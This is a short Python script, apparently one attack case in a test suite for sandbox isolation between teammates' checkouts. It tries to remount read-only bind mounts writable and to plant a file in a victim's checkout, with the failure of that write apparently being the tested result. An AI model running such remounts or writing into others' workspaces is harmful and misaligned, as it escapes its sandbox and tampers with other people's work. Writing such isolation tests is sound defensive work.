#!/usr/bin/env python3
"""Attack 3: undo the sandbox (remount a read-only bind writable) and plant a file in another
teammate's checkout, which it then commits as its own.

argv: VICTIM. The victim's checkout is beside this one; the victim waits for the signal.
"""
import subprocess
import sys
from pathlib import Path

from hostile import fail, own_work, signal_peer

victim = sys.argv[1]
checkout = Path.cwd().parent / victim
try:
    # Every mount holding the victim's checkout, deepest first, made writable again.
    with open("/proc/self/mounts") as mounts:
        points = [line.split()[1].replace("\\040", " ") for line in mounts]
    holding = sorted({p for p in points if str(checkout) == p or str(checkout).startswith(p.rstrip("/") + "/")},
                     key=len, reverse=True)
    for point in holding:
        subprocess.run(["mount", "-o", "remount,rw,bind", point], capture_output=True, check=False)
    planted = checkout / "src" / victim / "planted.txt"
    try:
        planted.parent.mkdir(parents=True, exist_ok=True)
        planted.write_text("planted by an attacker\n")
    except OSError as err:
        fail(f"cannot write into {victim}'s checkout: {err}")
finally:
    signal_peer("remount")
own_work()
